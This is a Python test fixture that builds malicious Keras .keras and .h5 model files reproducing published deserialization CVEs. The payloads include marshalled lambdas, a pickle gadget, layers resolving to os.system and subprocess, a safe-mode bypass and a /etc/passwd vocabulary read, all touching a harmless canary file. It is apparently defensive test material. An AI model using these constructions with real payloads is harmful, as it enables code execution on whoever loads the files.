"""Networks in files that bring code along, reach for other files, or grow: built as published attacks build them."""

import base64
import io
import json
import marshal
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import h5py
import numpy as np

Config = dict[str, Any]

IMAGE: Config = {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None, "name": "image"}
IMAGE |= {"config": {"batch_shape": [None, 8, 8, 1], "dtype": "float32", "name": "image"}, "inbound_nodes": []}
SHOWN = {"class_name": "__keras_tensor__", "config": {"shape": [None, 8, 8, 1], "dtype": "float32"}}
SHOWN["config"]["keras_history"] = ["image", 0, 0]  # type: ignore[index]


def layer(kind: str, config: Config, *arguments: Any, module: str = "keras.layers", **named: Any) -> Config:
    """A layer of a graph, called with the image unless with other arguments."""
    node = {"args": list(arguments) or ([] if named else [SHOWN]), "kwargs": named}
    name = config.setdefault("name", kind.lower())
    return {"module": module, "class_name": kind, "config": config, "registered_name": None, "name": name} | {
        "build_config": {"input_shape": [None, 8, 8, 1]},
        "inbound_nodes": [node],
    }


def graph(*layers: Config) -> Config:
    ends = {"input_layers": ["image", 0, 0], "output_layers": [layers[-1]["name"], 0, 0]}
    config = {"name": "network", "layers": [IMAGE, *layers], **ends}
    named = {"module": "keras.src.models.functional", "class_name": "Functional", "registered_name": "Functional"}
    return named | {"config": config}


def function(module: str, name: str) -> Config:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def compiled(canary: Path) -> str:
    """A function that writes `canary`, as Keras writes down functions."""
    code = compile(f"lambda x: (open({str(canary)!r}, 'w').close(), x)[1]", "payload", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


def lambda_of(canary: Path) -> Config:
    code = {"class_name": "__lambda__", "config": {"code": compiled(canary), "defaults": None, "closure": None}}
    return layer("Lambda", {"function": code})


def keras_file(path: Path, config: Config, members: Mapping[str, bytes] | None = None, weights: bytes = b"") -> Path:
    """Write a `.keras` archive."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.12.0", "date_saved": "2026-01-01"}))
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("model.weights.h5", weights or hdf5())
        for name, content in (members or {}).items():
            archive.writestr(name, content)
    return path


def hdf5(change: Callable[[h5py.File], object] = lambda _: None) -> bytes:
    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        file.create_group("layers")
        change(file)
    return stream.getvalue()


def h5_file(path: Path, config: Config, version: str, change: Callable[[h5py.File], object] = lambda _: None) -> Path:
    """Write an `.h5` file."""
    with h5py.File(path, "w") as file:
        file.attrs["keras_version"], file.attrs["backend"] = version, "tensorflow"
        file.attrs["model_config"] = json.dumps(config)
        weights = file.create_group("model_weights")
        weights.attrs["layer_names"] = np.array([], "S1")
        change(file)
    return path


def old_sequence(canary: Path) -> Config:
    """What Keras 2 and, in HDF5, Keras 3 write of a network with a lambda."""
    entry = {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 8, 8, 1], "name": "image"}}
    code = {"name": "code", "function": [compiled(canary), None, None], "function_type": "lambda"}
    ends = [{"class_name": "Flatten", "config": {"name": "flat"}}]
    ends += [{"class_name": "Dense", "config": {"name": "dense", "units": 1}}]
    layers = [entry, {"class_name": "Lambda", "config": code}, *ends]
    return {"class_name": "Sequential", "config": {"name": "network", "layers": layers}}


def pickled(canary: Path) -> bytes:
    """What writes `canary` when it is unpickled, and no more than that."""
    return b"cbuiltins\nopen\n(V" + str(canary).encode() + b"\nVw\ntR."


def get_file(canary: Path) -> Config:
    """A call of `keras.utils.get_file` that would copy `canary`'s neighbour to it."""
    source = canary.with_name("source")
    source.write_text("x")
    told = {"fname": canary.name, "cache_dir": str(canary.parent), "cache_subdir": ""}
    config = {"function": function("keras.utils", "get_file"), "arguments": told}
    return layer("Lambda", config, inputs=source.as_uri())


ATTACKS: Mapping[str, Callable[[Path, Path], Path]] = {
    "CVE-2024-3660: a lambda in HDF5 of Keras 2": lambda folder, canary: h5_file(
        folder / "a.h5", old_sequence(canary), "2.12.0"
    ),
    "CVE-2025-9905: a lambda in HDF5 of Keras 3, for which safe mode did not count": lambda folder, canary: h5_file(
        folder / "a.h5", old_sequence(canary), "3.11.0"
    ),
    "a lambda in an archive": lambda folder, canary: keras_file(folder / "a.keras", graph(lambda_of(canary))),
    "a lambda within another layer": lambda folder, canary: keras_file(
        folder / "a.keras", graph(layer("TimeDistributed", {"layer": lambda_of(canary)}))
    ),
    "CVE-2025-1550: a layer that is any function": lambda folder, canary: keras_file(
        folder / "a.keras", graph(layer("any", {}, f"touch {canary}") | function("os", "system"))
    ),
    "CVE-2025-1550: any function within a layer": lambda folder, canary: keras_file(
        folder / "a.keras", graph(layer("Lambda", {"function": function("os", "system")}, inputs=f"touch {canary}"))
    ),
    "any function as an activation": lambda folder, canary: keras_file(
        folder / "a.keras", graph(layer("Activation", {"activation": function("os", "system")}, f"touch {canary}"))
    ),
    "CVE-2025-8747: a function of Keras that writes files": lambda folder, canary: keras_file(
        folder / "a.keras", graph(get_file(canary))
    ),
    "CVE-2025-9906: safe mode switched off, and then a lambda": lambda folder, canary: keras_file(
        folder / "a.keras",
        graph(
            layer("Lambda", {"name": "off", "function": function("keras.config", "enable_unsafe_deserialization")}),
            lambda_of(canary),
        ),
    ),
    "CVE-2026-1462: a SavedModel that lies elsewhere": lambda folder, canary: keras_file(
        folder / "a.keras", graph(layer("TFSMLayer", {"filepath": str(canary.parent)}))
    ),
    "a pickled module of PyTorch": lambda folder, canary: keras_file(
        folder / "a.keras",
        graph(layer("TorchModuleWrapper", {"module": base64.b64encode(pickled(canary)).decode()})),
    ),
    "a class that passes for a layer by another name": lambda folder, canary: keras_file(
        folder / "a.keras",
        graph(layer("Dense", {"units": 1, "args": ["touch", str(canary)]}, module="subprocess")),
    ),
    "CVE-2025-12058: a vocabulary that is another file": lambda folder, canary: keras_file(
        folder / "a.keras", graph(layer("StringLookup", {"vocabulary": "/etc/passwd", "note": str(canary)}))
    ),
}
"""By what they do: each writes a file into a folder and returns its path; its code would write the second path."""
